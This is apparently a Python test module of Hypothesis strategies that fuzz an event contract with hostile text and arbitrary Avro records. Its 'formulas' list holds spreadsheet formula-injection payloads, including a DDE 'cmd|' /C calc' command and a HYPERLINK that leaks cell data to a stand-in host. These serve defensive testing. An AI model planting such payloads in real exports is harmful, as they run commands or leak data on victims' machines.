"""Hypothesis strategies for the event contract: valid envelopes with hostile text in every
free field, and any record an Avro schema allows (valid for the contract or not)."""

from __future__ import annotations

from datetime import UTC, date, datetime
from typing import Any

from hypothesis import assume
from hypothesis import strategies as st
from pydantic import ValidationError

from hub.contract.models import Envelope
from hub.contract.vocabulary import (
    EventType,
    LifePhase,
    Municipality,
    Purpose,
    StallStep,
    TimePrecision,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP lists as the start of a cell that a spreadsheet runs as a formula."""

formulas = st.one_of(
    st.sampled_from([
        '=HYPERLINK("http://example.invalid/?leak="&A1;"Klick")', "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "=1+1", "-2+3+cmd|' /C calc'!A0", "@",
        "=", "+49-2303-27-0", "-UE-1", " =1+1", "'=1+1", "''", "=1;=2", '=1"";=2',
        "=1,=2", "\t=1", "\r=1", "\n=1", "\u00a0=1", "\u3000@1",
    ]),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=20)).map("".join),
)
"""Text that a spreadsheet could run as a formula, and near misses."""

hostile_text = st.one_of(formulas, st.text(max_size=64))

_dates = st.dates(date(1900, 1, 1), date(2200, 12, 31))
_times = st.datetimes(datetime(1900, 1, 1), datetime(2200, 12, 31), timezones=st.just(UTC))
agency_ids = st.from_regex(r"\A[a-z0-9][a-z0-9_-]{0,30}\Z")
identifiers = st.one_of(formulas, st.text(min_size=1, max_size=40)).map(
    lambda s: "".join(s.split()) or "x")
labels = st.one_of(formulas, st.text(min_size=1, max_size=64)).map(
    lambda s: "".join(c for c in s if c >= " " and c != "\x7f")[:64] or "x")


def _payload(event_type: EventType) -> st.SearchStrategy[dict[str, Any]]:
    family = event_type.value.split(".")[0]
    if family == "consent":
        fields = {"consent_id": identifiers,
                  "recipients": st.lists(agency_ids, min_size=1, max_size=4).map(tuple),
                  "valid_from": _dates, "valid_to": st.none() | _dates,
                  "recorded_at": _times}
        if event_type is EventType.CONSENT_REVOKED:
            fields["effective_at"] = _times
        return st.fixed_dictionaries(fields)
    if family == "offer":
        return st.fixed_dictionaries({"offer_category": labels})
    if event_type is EventType.HANDOVER_STALLED:
        return st.fixed_dictionaries({"handover_id": identifiers, "requested_by": agency_ids,
                                      "waiting_for": st.sampled_from(StallStep),
                                      "deadline": _times})
    if family == "handover":
        return st.fixed_dictionaries({"handover_id": identifiers})
    codes = st.from_regex(r"\A[a-z][a-z0-9_]{0,30}\Z")
    return st.fixed_dictionaries({"screening_kind": codes, "support_category": codes})


@st.composite
def envelopes(draw) -> Envelope:
    """A valid envelope of any type; every free text field may hold hostile text."""
    event_type = draw(st.sampled_from(EventType))
    payload = draw(_payload(event_type))
    if payload.get("valid_to") and payload["valid_to"] < payload["valid_from"]:
        payload["valid_to"], payload["valid_from"] = payload["valid_from"], payload["valid_to"]
    time, precision = draw(_times), draw(st.sampled_from(TimePrecision))
    if precision is TimePrecision.DATE:  # only the day is known: midnight UTC of it
        time = time.replace(hour=0, minute=0, second=0, microsecond=0)
    fields = {
        "id": str(draw(st.uuids())), "type": event_type, "source": draw(agency_ids),
        "time": time, "time_precision": precision,
        "subject": draw(st.from_regex(r"\A[0-9a-f]{1,128}\Z")),
        "key_id": draw(identifiers), "municipality": draw(st.sampled_from(Municipality)),
        "life_phase": draw(st.sampled_from(LifePhase)),
        "purpose": draw(st.sampled_from(Purpose)),
        "recipient": draw(st.none() | agency_ids),
        "correlation_id": draw(st.none() | identifiers), "payload": payload,
    }
    try:
        return Envelope(**fields)
    except ValidationError:  # e.g. a character pydantic's \S counts as white space
        assume(False)
        raise


# ------------------------------------------------------------ any record of an Avro schema
_PRIMITIVES = {
    "null": st.none(),
    "boolean": st.booleans(),
    "int": st.integers(-(2**31), 2**31 - 1),
    "long": st.integers(-(2**63), 2**63 - 1),
    "float": st.floats(width=32),
    "double": st.floats(),
    "bytes": st.binary(max_size=64),
    "string": st.one_of(hostile_text, st.sampled_from(["", "x" * 100_000])),
}


def avro_values(schema: Any, named: dict[str, Any] | None = None) -> st.SearchStrategy:
    """Any value that fastavro writes for ``schema`` (a parsed schema): strings, numbers,
    timestamps and dates anywhere in their range, every union branch, every enum symbol."""
    named = {} if named is None else named
    if isinstance(schema, str):
        if schema in _PRIMITIVES:
            return _PRIMITIVES[schema]
        return st.deferred(lambda: avro_values(named[schema], named))
    if isinstance(schema, list):
        return st.one_of([_branch(b, named) for b in schema])
    kind = schema["type"]
    if "name" in schema:
        named[schema["name"]] = schema
    logical = schema.get("logicalType")
    if logical == "timestamp-millis":
        return st.one_of(_times, st.integers(-(2**63), 2**63 - 1))
    if logical == "date":
        return st.one_of(_dates, st.integers(-(2**31), 2**31 - 1))
    if kind == "record":
        return st.fixed_dictionaries(
            {f["name"]: avro_values(f["type"], named) for f in schema["fields"]})
    if kind == "enum":
        return st.sampled_from(schema["symbols"])
    if kind == "array":
        return st.lists(avro_values(schema["items"], named), max_size=4)
    if kind == "map":
        return st.dictionaries(st.text(max_size=8), avro_values(schema["values"], named),
                               max_size=3)
    if kind == "fixed":
        return st.binary(min_size=schema["size"], max_size=schema["size"])
    return avro_values(kind, named)


def _branch(schema: Any, named: dict[str, Any]) -> st.SearchStrategy:
    """A union branch; a record branch is written as ``(name, value)`` so that the name
    (not the first branch that fits) selects it."""
    values = avro_values(schema, named)
    if isinstance(schema, dict) and schema.get("type") == "record":
        return values.map(lambda value, name=schema["name"]: (name, value))
    if isinstance(schema, str) and schema not in _PRIMITIVES:
        return values.map(lambda value, name=schema: (name, value))
    return values
